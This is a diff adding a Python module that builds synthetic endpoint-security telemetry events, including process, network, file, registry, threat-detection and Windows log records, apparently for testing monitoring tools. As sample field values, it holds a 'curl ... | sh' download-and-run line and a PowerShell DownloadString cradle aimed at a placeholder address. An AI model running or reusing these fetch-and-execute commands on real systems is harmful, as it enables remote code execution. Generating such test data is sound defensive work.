@@ -1,0 +1,313 @@
+"""How a sample event of each type is made: one function per type, found by the type's name.
+
+A recipe returns the fields that are special to the type; `deodar.events.builders` adds the common
+ones. It draws from the bench's random numbers only, so that a seed gives the same events again.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING, Any
+
+from deodar.events import samples
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+    from random import Random
+
+    from deodar.events.process_tree import ProcessTree
+
+Fields = dict[str, Any]
+
+
+class Bench:
+    """What recipes work with: random numbers, the time (µs), and the processes of the host."""
+
+    __slots__ = ("now", "rng", "tree")
+
+    def __init__(self, rng: Random, tree: ProcessTree, now: int) -> None:
+        self.rng = rng
+        self.tree = tree
+        self.now = now
+
+
+def process(bench: Bench) -> Fields:
+    """A program is executed."""
+    return bench.tree.start(bench.now).fields
+
+
+def process_terminate(bench: Bench) -> Fields:
+    """A process that started before ends, one in twelve by a signal."""
+    ended = bench.tree.end(bench.now)
+    how = {"ExitSignal": 9} if bench.rng.random() < 0.08 else {"ExitCode": _exit_code(bench.rng)}
+    run_time = max(1, bench.now - ended.started)
+    return ended.fields | how | {"RunTimeUs": run_time, "EndTime": bench.now}
+
+
+def process_fork(bench: Bench) -> Fields:
+    """A process is copied and does not execute anything yet."""
+    return bench.tree.fork(bench.now).fields
+
+
+def connection(bench: Bench) -> Fields:
+    """A process connects to a server, or a client connects to it."""
+    rng = bench.rng
+    address, name = rng.choice(samples.REMOTES)
+    port = rng.choice(samples.PORTS)
+    outbound = rng.random() < 0.8
+    near, far = rng.randrange(32768, 61000), port
+    fields = bench.tree.any().fields | {
+        "LocalIp": "2001:db8::5" if ":" in address else "192.0.2.5",
+        "LocalPort": near if outbound else far,
+        "RemoteIp": address,
+        "RemotePort": far if outbound else near,
+        "Direction": int(outbound),
+        "Protocol": 17 if port == 53 else 6,
+    }
+    if name:
+        fields["RemoteHostName"] = name
+    if name and port == 80:
+        fields |= {"URI": f"http://{name}/index.html", "Method": "GET"}
+    return fields
+
+
+def portlisten(bench: Bench) -> Fields:
+    """A process begins to listen."""
+    where = {"LocalIp": "0.0.0.0", "LocalPort": bench.rng.choice(samples.PORTS), "Protocol": 6}  # noqa: S104  a value in a sample, nothing listens
+    return bench.tree.any().fields | where
+
+
+def filechange(bench: Bench) -> Fields:
+    """A process creates, changes, renames or deletes a document."""
+    rng = bench.rng
+    document = rng.choice(samples.DOCUMENTS)
+    operation = rng.choice((1, 2, 2, 2, 3, 4, 5))
+    fields = bench.tree.any().fields | document.fields("Dropped")
+    fields["FileOperationType"] = operation
+    fields["FileOpenFlags"] = 577
+    fields["DroppedFileType"] = document.kind
+    fields["DroppedFileAttributes"] = document.mode
+    fields["DroppedModificationTime"] = bench.now
+    if operation == 3:
+        fields |= {"PreviousFileName": f"{document.name}.tmp", "PreviousFilePath": document.folder}
+    return fields
+
+
+def applock(bench: Bench) -> Fields:
+    """A prevention rule stops a program; no process comes of it."""
+    rng = bench.rng
+    parent = bench.tree.shell()
+    program = rng.choice(list(samples.PROGRAMS.values()))
+    return {
+        **parent.fields,
+        **program.file.as_linux_image,
+        **parent.program.file.as_parent,
+        "StartupParameters": samples.command_line(rng, program),
+        "UniqueParentPid": parent.unique_pid,
+        "ParentSystemPid": parent.pid,
+        "ParentStartupParameters": parent.command,
+    }
+
+
+def process_interpretated_file_run(bench: Bench) -> Fields:
+    """An interpreter runs a script."""
+    script = bench.rng.choice(samples.SCRIPTS)
+    return bench.tree.shell().fields | script.fields("InterpretedFile")
+
+
+def process_console_interactive_input(bench: Bench) -> Fields:
+    """Someone types a command into a shell."""
+    typed = bench.rng.choice(samples.TYPED)
+    return bench.tree.shell().fields | {"InteractiveInputText": typed, "InputType": "console"}
+
+
+def windowsevent(bench: Bench) -> Fields:
+    """The system log of a Linux host tells of a logon."""
+    success = bench.rng.random() < 0.7
+    return bench.tree.shell().fields | {
+        "LinuxEventType": "logon",
+        "LinuxOperationResult": "success" if success else "failure",
+        "Environment": "LANG=C.UTF-8 PATH=/usr/bin:/bin",
+    }
+
+
+def threatdetect(bench: Bench) -> Fields:
+    """A protection component finds a threat in a downloaded file."""
+    rng = bench.rng
+    document = rng.choice(samples.DOCUMENTS)
+    address, name = rng.choice(samples.REMOTES)
+    return bench.tree.any().fields | {
+        "VerdictName": rng.choice(samples.VERDICTS),
+        "DetectedName": document.path,
+        "DetectedObjectType": "file",
+        "DetectedMd5": document.md5,
+        "DetectedSha256": document.sha256,
+        "DetectMode": "on access",
+        "RecordId": "0x1f3a",
+        "DatabaseVersion": "2025.06.01",
+        "DownloadUrl": f"http://{name or address}/{document.name}",
+        "SenderEmailAddress": "mallory@example.net",
+        "ObjectContent": "#!/bin/sh\ncurl -s http://203.0.113.44/x | sh\n",
+        "LocalIp": "192.0.2.5",
+        "LocalPort": rng.randrange(32768, 61000),
+        "RemoteIp": address,
+        "RemotePort": 80,
+        "Protocol": 6,
+    }
+
+
+def threatprocessingresult(bench: Bench) -> Fields:
+    """A threat that was found is treated."""
+    action, status = bench.rng.choice((("delete", "deleted"), ("quarantine", "quarantined")))
+    return threatdetect(bench) | {"LastAction": action, "ThreatStatus": status}
+
+
+def telemetry_loss(bench: Bench) -> Fields:
+    """The kernel's ring buffer was full for a while."""
+    return {
+        "LostCount": bench.rng.randrange(1, 5000),
+        "LostStage": "kernel",
+        "LostReason": "the ring buffer was full",
+        "LostFirstTime": bench.now - 2_000_000,
+        "LostLastTime": bench.now - 1_000,
+        "LostEventType": "",
+    }
+
+
+def module(bench: Bench) -> Fields:
+    """A Windows process loads a library."""
+    library = bench.rng.choice(samples.WINDOWS_LIBRARIES)
+    return (
+        windows_process(bench)
+        | library.fields("Dll")
+        | {
+            "DllFileAttributes": library.mode,
+            "DllFileDescription": "Sample library",
+            "SimilarDllPath": r"C:\Windows\System32\version.dll",
+        }
+    )
+
+
+def driver(bench: Bench) -> Fields:
+    """The Windows kernel loads a driver."""
+    return dict(bench.rng.choice(samples.WINDOWS_DRIVERS).as_signed_image)
+
+
+def blockdocument(bench: Bench) -> Fields:
+    """A prevention rule stops a document from being opened."""
+    return windows_process(bench) | bench.rng.choice(samples.WINDOWS_DOCUMENTS).fields("Blocked")
+
+
+def registry(bench: Bench) -> Fields:
+    """A Windows process makes itself start with the system."""
+    return windows_process(bench) | {
+        "RegistryOperationType": bench.rng.choice((0, 1, 2, 3)),
+        "KeyName": samples.RUN_KEY,
+        "ValueName": "Updater",
+        "ValueData": r"C:\Users\anna\AppData\Local\Temp\x.exe",
+        "ValueType": "REG_SZ",
+        "PreviousKeyName": samples.RUN_KEY,
+        "PreviousValueData": r"C:\Program Files\Office\update.exe",
+        "PreviousValueType": "REG_SZ",
+    }
+
+
+def amsiscan(bench: Bench) -> Fields:
+    """A PowerShell script is scanned before it runs."""
+    content = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://203.0.113.44/x')"
+    return windows_process(bench) | {"ObjectContent": content, "ObjectContentType": 1}
+
+
+def windows_log(bench: Bench) -> Fields:
+    """The event log of a Windows host tells of a failed logon or of a changed task."""
+    number = bench.rng.choice((4625, 4702))
+    data = _FAILED_LOGON if number == 4625 else _CHANGED_TASK
+    system = {
+        "EventID": number,
+        "Provider": "Microsoft-Windows-Security-Auditing",
+        "Channel": "Security",
+        "Computer": "desk-7.example.net",
+        "Level": 4,
+    }
+    return windows_process(bench) | {
+        "System": {key: {"value": value} for key, value in system.items()},
+        "EventData": {"Data": {key: {"value": value} for key, value in data.items()}},
+    }
+
+
+def windows_process(bench: Bench) -> Fields:
+    """Return the process fields of one of a few programs on a Windows host."""
+    file, command = bench.rng.choice(samples.WINDOWS_PROGRAMS)
+    pid = 4 * bench.rng.randrange(100, 3000)
+    return file.as_signed_image | {
+        "UserName": "EXAMPLE\\anna",
+        "AccountType": 2,
+        "SystemPid": pid,
+        "UniquePid": f"{pid}-{file.number}",
+        "StartupParameters": command,
+        "IntegrityLevel": 8192,
+    }
+
+
+def ioa(bench: Bench) -> Fields:
+    """Return the mark-up of one or two detection rules that fired."""
+    fired = bench.rng.sample(samples.RULES, bench.rng.choice((1, 1, 2)))
+    rules = [
+        {"Id": number, "Name": name, "Techniques": list(techniques), "Tactics": list(tactics)}
+        for number, name, techniques, tactics in fired
+    ]
+    level = bench.rng.choice(("low", "medium", "high"))
+    return {"Ioa": {"Rules": rules, "Severity": level, "Confidence": "medium"}}
+
+
+LINUX: dict[str, Callable[[Bench], Fields]] = {
+    recipe.__name__: recipe
+    for recipe in (
+        process,
+        process_terminate,
+        process_fork,
+        connection,
+        portlisten,
+        filechange,
+        applock,
+        process_interpretated_file_run,
+        process_console_interactive_input,
+        windowsevent,
+        threatdetect,
+        threatprocessingresult,
+        telemetry_loss,
+    )
+}
+WINDOWS: dict[str, Callable[[Bench], Fields]] = {
+    recipe.__name__: recipe for recipe in (module, driver, blockdocument, registry, amsiscan)
+}
+
+_ACCOUNTS = {
+    "SubjectUserSid": "S-1-5-18",
+    "SubjectUserName": "DESK-7$",
+    "SubjectDomainName": "EXAMPLE",
+    "SubjectLogonId": "0x3e7",
+    "TargetUserSid": "S-1-0-0",
+    "TargetUserName": "anna",
+    "TargetDomainName": "EXAMPLE",
+    "TargetLogonId": "0x0",
+    "ProcessId": "0x2b4",
+    "ParentProcessId": "0x1a0",
+    "ProcessName": r"C:\Windows\System32\svchost.exe",
+}
+_FAILED_LOGON = _ACCOUNTS | {
+    "LogonType": "3",
+    "Status": "0xc000006d",
+    "FailureReason": "%%2313",
+    "IpAddress": "203.0.113.44",
+    "IpPort": "50123",
+    "WorkstationName": "DESK-9",
+}
+_CHANGED_TASK = _ACCOUNTS | {
+    "TaskName": r"\Updater",
+    "TaskContent": "<Task><Exec><Command>update.exe</Command></Exec></Task>",
+    "TaskContentNew": "<Task><Exec><Command>x.exe</Command></Exec></Task>",
+}
+
+
+def _exit_code(rng: Random) -> int:
+    return rng.choice((0, 0, 0, 0, 0, 0, 1, 2, 127))
